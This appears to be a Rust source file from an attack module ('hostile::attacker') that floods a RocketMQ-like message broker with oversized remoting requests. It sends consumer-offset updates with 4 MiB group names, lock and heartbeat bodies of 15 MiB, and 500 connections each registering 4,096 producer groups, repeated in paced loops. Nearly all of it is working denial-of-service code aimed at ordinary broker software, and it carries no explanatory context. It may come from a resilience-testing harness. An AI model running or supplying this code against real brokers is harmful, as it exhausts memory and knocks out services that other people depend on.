//! Names of megabytes, and very many of them.

use std::io;

use ringmq_remoting::{codes::request, encode::Value};

use crate::hostile::{
    attacker::Target,
    wire::{self, Link, patch, place},
};

/// A place for a number that makes a name another one.
const NUMBER: &str = "00000000";
const DIGITS: usize = NUMBER.len();
const OFFSET_NAME_BYTES: usize = 4 << 20;
const NAME_BYTES: usize = 15 << 20;
/// Frames of 16 MiB a second.
const FRAMES_A_SECOND: f64 = 12.0;
const GROUP_CONNECTIONS: usize = 500;
const GROUPS: u64 = 4096;

/// A frame that is sent again and again with another number in it.
struct Numbered {
    frame: Vec<u8>,
    at: usize,
    number: u64,
}

impl Numbered {
    fn new(frame: Vec<u8>) -> Numbered {
        let at = place(&frame, NUMBER.as_bytes());
        let number = u64::from(std::process::id()) << 16;
        Numbered { frame, at, number }
    }

    fn next(&mut self) -> &[u8] {
        self.number += 1;
        patch(&mut self.frame, self.at, DIGITS, self.number % 100_000_000);
        &self.frame
    }
}

/// Sends requests that are answered, as fast as the pace allows.
fn repeat(target: &Target, mut frame: Numbered, a_second: f64) -> io::Result<()> {
    let mut link = Link::open(target.broker)?;
    let mut pace = target.pace(a_second);
    loop {
        let answer = link.exchange(frame.next(), 1);
        target.answered(&answer);
        if answer.is_err() {
            link = Link::open(target.broker)?;
        }
        pace.wait();
    }
}

fn long(bytes: usize) -> String {
    format!("{NUMBER}{}", "n".repeat(bytes))
}

/// Consumer offsets of groups with names of 4 MiB.
pub fn long_offsets(target: &Target) -> io::Result<()> {
    let name = long(OFFSET_NAME_BYTES);
    let fields = [
        ("consumerGroup", Value::Str(&name)),
        ("topic", Value::Str("TBW102")),
        ("queueId", Value::Int(0)),
        ("commitOffset", Value::Int(1)),
    ];
    let frame = wire::request(request::UPDATE_CONSUMER_OFFSET, 1, &fields, b"");
    repeat(target, Numbered::new(frame), 40.0)
}

/// Locks of groups with names of 15 MiB.
pub fn long_locks(target: &Target) -> io::Result<()> {
    let body = format!(
        "{{\"consumerGroup\":\"{}\",\"clientId\":\"c\",\"mqSet\":[{{\"topic\":\"t\",\
            \"brokerName\":\"broker-a\",\"queueId\":0}}]}}",
        long(NAME_BYTES)
    );
    let frame = wire::request(request::LOCK_BATCH_MQ, 1, &[], body.as_bytes());
    repeat(target, Numbered::new(frame), FRAMES_A_SECOND)
}

/// Subscriptions of 15 MiB.
pub fn long_subscriptions(target: &Target) -> io::Result<()> {
    let body = format!(
        "{{\"clientID\":\"c\",\"consumerDataSet\":[{{\"groupName\":\"long_{NUMBER}\",\
            \"consumeType\":\"CONSUME_PASSIVELY\",\"messageModel\":\"CLUSTERING\",\
            \"consumeFromWhere\":\"CONSUME_FROM_FIRST_OFFSET\",\"subscriptionDataSet\":[\
            {{\"topic\":\"TBW102\",\"subString\":\"{}\",\"subVersion\":1}}]}}]}}",
        "s".repeat(NAME_BYTES)
    );
    let frame = wire::request(request::HEART_BEAT, 1, &[], body.as_bytes());
    repeat(target, Numbered::new(frame), FRAMES_A_SECOND)
}

/// 500 connections with 4,096 producer groups each, which then all close.
pub fn many_groups(target: &Target) -> io::Result<()> {
    let mut pace = target.pace(250.0);
    let mut held = Vec::new();
    for connection in 0..GROUP_CONNECTIONS {
        let mut body = format!(r#"{{"clientID":"c{connection}","producerDataSet":["#);
        for group in 0..GROUPS {
            let comma = if group == 0 { "" } else { "," };
            body += &format!(r#"{comma}{{"groupName":"producer_{connection}_{group}"}}"#);
        }
        body += "]}";
        let mut link = Link::open(target.broker)?;
        let answer = link.call(request::HEART_BEAT, &[], body.as_bytes());
        target.answered(&answer);
        held.push(link);
        pace.wait();
    }
    Ok(())
}
